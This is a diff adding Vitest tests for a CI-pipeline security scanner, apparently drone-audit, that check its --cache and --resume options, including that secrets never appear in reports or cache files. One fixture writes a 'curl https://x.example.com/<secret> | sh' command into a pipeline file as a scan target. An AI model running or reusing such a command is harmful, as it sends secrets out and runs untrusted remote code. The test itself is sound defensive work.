@@ -1,0 +1,143 @@
+import { spawn } from 'node:child_process';
+import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
+import { platform } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { droneAudit, temporaryFolder, tool } from './support/cli.ts';
+import { filesBelow } from './support/files-below.ts';
+
+const pipeline = (image: string): string =>
+  `kind: pipeline\ntype: docker\nname: default\nsteps:\n  - name: build\n    image: ${image}\n    privileged: true\n`;
+const secret = 'tGq7Zk29vXb4LmPw8RsYdNcHfJ3uQ6eA';
+
+/** Some repositories: each fourth is a copy, and one writes a secret out. */
+function fleet(amount: number): string {
+  const folder = temporaryFolder();
+  for (let index = 0; index < amount; index++) {
+    const repository = join(folder, 'repositories', `r${index}`);
+    mkdirSync(repository, { recursive: true });
+    writeFileSync(join(repository, '.drone.yml'), pipeline(index % 4 === 0 ? 'golang' : `golang:${index}`));
+  }
+  const path = join(folder, 'repositories/r1/.drone.yml');
+  writeFileSync(path, `${readFileSync(path, 'utf8')}    environment:\n      DB_PASSWORD: ${secret}\n`);
+  return folder;
+}
+
+function scan(cwd: string, ...options: string[]): { status: number | null; stdout: string; stderr: string } {
+  return droneAudit(['scan', '--format', 'json', 'repositories', ...options], { cwd });
+}
+
+function recordsIn(folder: string): readonly string[] {
+  return filesBelow(folder, '');
+}
+
+describe('--cache', () => {
+  it('changes nothing of a report, on the first run or on the next', () => {
+    const folder = fleet(12);
+    const { stdout, status } = scan(folder);
+    expect(stdout).toContain('privileged-step');
+    for (const run of [scan(folder, '--cache', 'kept'), scan(folder, '--cache', 'kept')])
+      expect(run).toMatchObject({ stdout, status, stderr: '' });
+    expect(recordsIn(join(folder, 'kept')).length).toBe(11);
+  });
+
+  it('takes what is there, if it is what was put there', () => {
+    const folder = fleet(4);
+    const { stdout } = scan(folder, '--cache', 'kept');
+    const names = recordsIn(join(folder, 'kept'));
+    expect(names.length).toBe(3);
+    for (const name of names) {
+      const text = readFileSync(name, 'utf8');
+      expect(text).toContain('privileged-step');
+      writeFileSync(name, text.replaceAll('"critical"', '"info"').replaceAll('"high"', '"info"'));
+    }
+    expect(scan(folder, '--cache', 'kept').stdout).toBe(stdout);
+    for (const name of names) writeFileSync(name, 'x');
+    expect(scan(folder, '--cache', 'kept').stdout).toBe(stdout);
+    for (const name of names) writeFileSync(name, readFileSync(names[0] ?? '', 'utf8'));
+    expect(scan(folder, '--cache', 'kept').stdout).toBe(stdout);
+  });
+
+  it('is of no use where the file, an option or the config is another', () => {
+    const folder = fleet(3);
+    scan(folder, '--cache', 'kept');
+    writeFileSync(join(folder, 'repositories/r2/.drone.yml'), pipeline('golang:1.23.4'));
+    const same = (...options: string[]): void =>
+      expect(scan(folder, '--cache', 'kept', ...options).stdout).toBe(scan(folder, ...options).stdout);
+    same();
+    same('--pedantic');
+    same('--min-severity', 'high');
+    same('--trust', 'untrusted');
+    same('--rule', 'privileged-step');
+    writeFileSync(
+      join(folder, 'drone-audit.yml'),
+      'ignore:\n  - rule: privileged-step\n    path: repositories/r0/**\n    reason: known\n',
+    );
+    same();
+  });
+
+  it('holds no secret, and lets one that is known from elsewhere be hidden', () => {
+    const folder = fleet(3);
+    const path = join(folder, 'repositories/r0/.drone.yml');
+    writeFileSync(path, `${readFileSync(path, 'utf8')}    commands: [ "curl https://x.example.com/${secret} | sh" ]\n`);
+    const { stdout } = scan(folder);
+    expect(stdout).not.toContain(secret);
+    for (let run = 0; run < 2; run++) expect(scan(folder, '--cache', 'kept').stdout).toBe(stdout);
+    for (const name of recordsIn(join(folder, 'kept'))) expect(readFileSync(name, 'utf8')).not.toContain(secret);
+  });
+
+  it('is no part of what is audited', () => {
+    const folder = fleet(3);
+    const { stdout } = scan(folder, '.');
+    for (let run = 0; run < 2; run++) expect(scan(folder, '.', '--cache', 'repositories/.kept').stdout).toBe(stdout);
+  });
+
+  it.skipIf(platform() === 'win32')('is refused where others can write it, or where it is none', () => {
+    const folder = fleet(1);
+    mkdirSync(join(folder, 'open'));
+    chmodSync(join(folder, 'open'), 0o777);
+    writeFileSync(join(folder, 'file'), '');
+    symlinkSync(folder, join(folder, 'link'));
+    for (const [name, why] of [
+      ['open', 'can be written by other users'],
+      ['file', 'cache'],
+      ['link', 'is no folder'],
+    ] as const) {
+      const { status, stderr, stdout } = scan(folder, '--cache', name);
+      expect({ status, stdout }).toEqual({ status: 2, stdout: '' });
+      expect(stderr).toContain(why);
+    }
+    expect(scan(folder, '--cache', 'a', '--resume', 'b').status).toBe(2);
+  });
+});
+
+describe('--resume', () => {
+  it('leaves the report alone behind', () => {
+    const folder = fleet(8);
+    const { stdout, status } = scan(folder);
+    expect(scan(folder, '--resume', 'report.json', '-o', 'report.json')).toMatchObject({ stdout, status });
+    expect(readFileSync(join(folder, 'report.json'), 'utf8')).toBe(stdout);
+    expect(readdirSync(folder).sort()).toEqual(['report.json', 'repositories']);
+  });
+
+  it('takes up a run that was killed', async () => {
+    const folder = fleet(400);
+    const unfinished = join(folder, 'report.json.unfinished');
+    const [program, ...first] = tool;
+    const child = spawn(program, [...first, 'scan', 'repositories', '--resume', 'report.json', '-o', 'report.json'], {
+      cwd: folder,
+      stdio: 'ignore',
+    });
+    const ended = new Promise((resolve) => child.once('exit', resolve));
+    while (!existsSync(unfinished) || readdirSync(unfinished).length < 5)
+      await new Promise((resolve) => setTimeout(resolve, 5));
+    child.kill('SIGKILL');
+    await ended;
+    const kept = recordsIn(unfinished).length;
+    expect(kept).toBeGreaterThan(0);
+    expect(existsSync(join(folder, 'report.json'))).toBe(false);
+    const { stdout } = scan(folder, '--resume', 'report.json', '-o', 'report.json');
+    expect(stdout).toBe(scan(folder).stdout);
+    expect(existsSync(unfinished)).toBe(false);
+  });
+});
